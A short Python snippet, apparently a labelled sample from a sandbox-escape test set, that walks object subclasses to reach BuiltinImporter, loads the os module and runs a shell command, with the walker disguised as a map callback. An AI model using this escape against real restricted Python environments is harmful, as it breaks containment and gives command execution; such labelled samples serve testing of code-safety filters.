# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: walk(cls=Base) helper passed as a callback to map over a tuple (object,)
class Base:
    pass


def walk(cls=Base):
    for sub in cls.__subclasses__():
        yield sub
        yield from walk(sub)


for gen in map(walk, (object,)):
    for c in gen:
        if c.__name__ == "BuiltinImporter":
            c.load_module("os").system("id")
